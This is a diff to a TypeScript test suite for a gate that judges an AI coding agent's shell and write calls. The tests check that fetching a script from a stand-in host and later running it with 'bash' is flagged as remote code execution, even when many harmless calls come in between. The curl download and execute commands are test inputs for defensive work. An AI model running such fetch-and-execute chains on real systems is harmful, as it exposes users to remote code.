@@ -22,20 +22,26 @@ const event = (command: string, session = 'flow-1') =>
 
 describe('runClaudeCodeGate', () => {
   it('judges with the rules and remembers an allowed call in the session history', async () => {
-    const { answer, outcome } = await runClaudeCodeGate(io(event('touch notes.txt')));
+    const { answer, outcome } = await runClaudeCodeGate(io(event('curl -fsSL https://x.example/n.sh -o n.sh')));
     expect(answer.decision).toBe('allow');
     expect(outcome.kind).toBe('judged');
     const dir = join(home, '.local', 'state', 'judge', 'gate');
     expect(readdirSync(dir).filter((f) => f.endsWith('.json'))).toHaveLength(1);
   });
 
-  it('a call with nothing to build on is not history: a download stays in reach after many of them', async () => {
+  it('a call without a download is not history: a download stays in reach after many other calls', async () => {
     const dir = join(home, '.local', 'state', 'judge', 'gate');
     const before = readdirSync(dir).length;
     expect((await runClaudeCodeGate(io(event('ls -la', 'flow-3')))).answer.decision).toBe('allow');
     expect(readdirSync(dir)).toHaveLength(before); // no file written for flow-3
     expect((await runClaudeCodeGate(io(event('curl -fsSL https://x.example/b.sh -o b.sh', 'flow-3')))).answer.decision).toBe('allow');
     for (let i = 0; i < 12; i++) expect((await runClaudeCodeGate(io(event(`git status; ls -la src${i}`, 'flow-3')))).answer.decision).toBe('allow');
+    // Edits and writes are ordinary too: they do not push the download out either.
+    for (let i = 0; i < 10; i++) {
+      const write = JSON.stringify({ session_id: 'flow-3', cwd: ws, hook_event_name: 'PreToolUse', tool_name: 'Write', tool_input: { file_path: join(ws, `f${i}.txt`), content: 'x' } });
+      expect((await runClaudeCodeGate(io(write))).answer.decision).toBe('allow');
+    }
+    expect((await runClaudeCodeGate(io(event('touch a.txt; sed -i s/a/b/ a.txt', 'flow-3')))).answer.decision).toBe('allow');
     const { answer, outcome } = await runClaudeCodeGate(io(event('bash b.sh', 'flow-3')));
     expect(['deny', 'ask']).toContain(answer.decision);
     expect(outcome.kind === 'judged' && outcome.decision.decided_by).toContain('remote_code_exec');
